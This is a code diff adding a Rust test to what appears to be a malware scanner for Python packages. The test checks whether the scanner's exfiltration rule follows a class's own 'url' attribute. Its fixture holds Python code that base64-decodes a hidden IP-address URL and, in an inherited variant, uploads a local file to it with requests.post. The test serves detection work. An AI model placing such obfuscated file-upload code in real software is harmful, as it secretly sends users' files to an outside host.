@@ -3719,3 +3719,24 @@ fn a_method_kept_as_the_objects_own_attribute_is_not_run_while_loading() {
         assert_eq!(beacon(&src), Some("import-beacon"), "{src}");
     }
 }
+
+#[test]
+fn an_attribute_of_one_class_is_not_another_classs_of_the_same_name() {
+    let upload = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/services.py", bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
+    };
+    // Two services of one file, each with its own `self.url`: the decoded
+    // one is the mirror's, the upload goes to the other's.
+    let two = "import base64, requests\nclass Mirror:\n    def __init__(self):\n        \
+               self.url = base64.b64decode('aHR0cDovLzIwMy4wLjExMy45L3g=').decode()\n    \
+               def ping(self):\n        return requests.get(self.url)\n\
+               class Service:\n    def __init__(self):\n        self.url = 'https://api.example.com/v1'\n    \
+               def upload(self, path):\n        return requests.post(self.url, files={'f': open(path, 'rb')})\n";
+    assert!(upload(two).is_none_or(|s| s < Severity::High), "{two}");
+    // A subclass that sets no `url` of its own reads the one its base set.
+    let inherited = two
+        .replace("class Service:\n", "class Service(Mirror):\n")
+        .replace("    def __init__(self):\n        self.url = 'https://api.example.com/v1'\n", "    pass\n");
+    assert!(upload(&inherited).is_some_and(|s| s >= Severity::High), "{inherited}");
+}
